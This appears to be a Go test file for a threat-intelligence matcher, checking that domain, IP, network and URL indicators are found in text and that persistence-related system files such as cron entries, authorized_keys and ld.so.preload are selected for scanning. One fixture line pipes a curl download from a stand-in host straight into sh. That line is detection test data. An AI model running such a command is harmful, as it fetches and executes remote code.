package intel

import (
	"fmt"
	"strings"
	"testing"
)

// hostsOf makes a set of hosts of indicators in a list.
func hostsOf(t testing.TB, list ...string) *hosts {
	t.Helper()
	in := &indicators{}
	h := newHosts(in)
	for _, line := range list {
		term, ok := termOf(line)
		if !ok {
			t.Fatalf("%q is no indicator", line)
		}
		in.all, in.next = append(in.all, Indicator{Term: term}), append(in.next, 0)
		h.add(term)
	}
	return h
}

func TestHostsInText(t *testing.T) {
	h := hostsOf(t, "evil.example.com", "198.51.100.7", "203.0.113.64/26", "5.6.0.0/16", "2001:db8::bad", "http://drop.example.com:8080/a/b.sh?x=1",
		"https://files.example.com/malware", "http://198.51.100.99/", "10.1.2.3", "10.9.0.0/16", "8.0.0.0/8")
	for _, c := range []struct{ text, want string }{
		{"connect evil.example.com now", "domain evil.example.com"},
		{"EVIL.Example.COM.", "domain EVIL.Example.COM"},
		{"http://sub.evil.example.com:8443/x", "domain sub.evil.example.com"},
		{"user@evil.example.com:~/x", "domain evil.example.com"},
		{"(evil.example.com),", "domain evil.example.com"},
		{"notevil.example.com", ""},
		{"evil.example.com.good.example.org", ""},
		{"evil.example.comx", ""},
		{"x=198.51.100.7:443", "address 198.51.100.7"},
		{"sshd:198.51.100.7:x", "address 198.51.100.7"},
		{"198.51.100.70", ""},
		{"1198.51.100.7", ""},
		{"198.51.100.7.1", ""},
		{"203.0.113.65 203.0.113.1", "network 203.0.113.65"},
		{"5.6.7.8", "network 5.6.7.8"},
		{"[2001:db8::bad]:80 2001:DB8:0:0::BAD", "address 2001:db8::bad, address 2001:DB8:0:0::BAD"},
		{"::ffff:198.51.100.7", "address ::ffff:198.51.100.7"},
		{"curl http://drop.example.com:8080/a/b.sh?x=1|sh", "url drop.example.com:8080/a/b.sh?x=1"},
		{"curl http://drop.example.com/a/b.sh?x=1", ""},
		{"curl http://drop.example.com:8080/a/b.sh", ""},
		{"https://files.example.com/malware/1", "url files.example.com/malware"},
		{"https://files.example.com:443/malware", "url files.example.com:443/malware"},
		{"https://files.example.com/malware2", ""},
		{"https://files.example.com/", ""},
		{"http://198.51.100.99/x http://198.51.100.99:80", "url 198.51.100.99, url 198.51.100.99, url 198.51.100.99:80"},
		{"10.1.2.3 and 10.9.8.7 and 10.2.2.2", "address 10.1.2.3, network 10.9.8.7"},
		{"version 1.2.3 of lib.so.6", ""},
		{strings.Repeat("a.", 2000) + "evil.example.com", ""},
	} {
		t.Run(c.text[:min(len(c.text), 40)], func(t *testing.T) {
			var got []string
			err := h.match(t.Context(), []byte(c.text), func(i *Indicator, off, n int) { got = append(got, string(i.Kind)+" "+c.text[off:off+n]) })
			if err != nil {
				t.Fatal(err)
			}
			if s := strings.Join(got, ", "); s != c.want {
				t.Errorf("got %q, want %q", s, c.want)
			}
		})
	}
}

// TestWideNetworksLeavePrivateAddressesAlone holds a network that has private addresses in it.
func TestWideNetworksLeavePrivateAddressesAlone(t *testing.T) {
	h := hostsOf(t, "192.0.0.0/8", "172.0.0.0/8")
	var got []string
	err := h.match(t.Context(), []byte("192.168.1.1 172.16.1.1 192.1.1.1 172.217.0.1 192.0.2.1 192.0.0.5"), func(_ *Indicator, off, n int) { got = append(got, fmt.Sprint(off, " ", n)) })
	if err != nil {
		t.Fatal(err)
	}
	same(t, "places", got, []string{"23 9", "33 11"})
}

func TestTextFiles(t *testing.T) {
	for _, p := range []string{
		"/etc/hosts", "/etc/resolv.conf", "/etc/cron.d/x", "/var/spool/cron/crontabs/root", "/etc/crontab", "/etc/systemd/system/x.service",
		"/usr/lib/systemd/system/x.service", "/root/.bashrc", "/home/a/.bash_history", "/srv/u/.python_history", "/root/.ssh/authorized_keys", "/etc/ssh/sshd_config",
		"/etc/ld.so.preload", "/etc/apt/sources.list.d/x.list", "/etc/nginx/sites-enabled/x", "/var/www/html/.htaccess", "/etc/docker/daemon.json",
		"/srv/app/docker-compose.yml", "/home/a/.config/systemd/user/x.service", "/etc/profile.d/x.sh",
	} {
		if !isTextFile(p, false) {
			t.Errorf("%s is none", p)
		}
	}
	for _, p := range []string{"/usr/bin/curl", "/usr/share/doc/x/README", "/var/log/syslog", "/etc/hosts2", "/home/a/bashrc", "/home/a/ssh/authorized_keys", "/var/www/html/index.php"} {
		if isTextFile(p, false) {
			t.Errorf("%s is one", p)
		}
	}
	if !isTextFile("/var/log/syslog", true) {
		t.Error("a log is none where they are asked for")
	}
}

func FuzzHosts(f *testing.F) {
	for _, s := range []string{"http://evil.example.com:80/x", "[2001:db8::1]:80", "a:b:c:d", "....", "-.-", "198.51.100.7", "x@198.51.100.9/a?b"} {
		f.Add([]byte(s))
	}
	h := hostsOf(f, "evil.example.com", "198.51.100.7", "198.51.100.0/25", "http://198.51.100.9/a", "2001:db8::/48")
	f.Fuzz(func(t *testing.T, text []byte) {
		err := h.match(t.Context(), text, func(i *Indicator, off, n int) {
			if off < 0 || n <= 0 || off+n > len(text) {
				t.Errorf("%s at %d, %d bytes of %d", i.Value, off, n, len(text))
			}
		})
		if err != nil {
			t.Error(err)
		}
	})
}
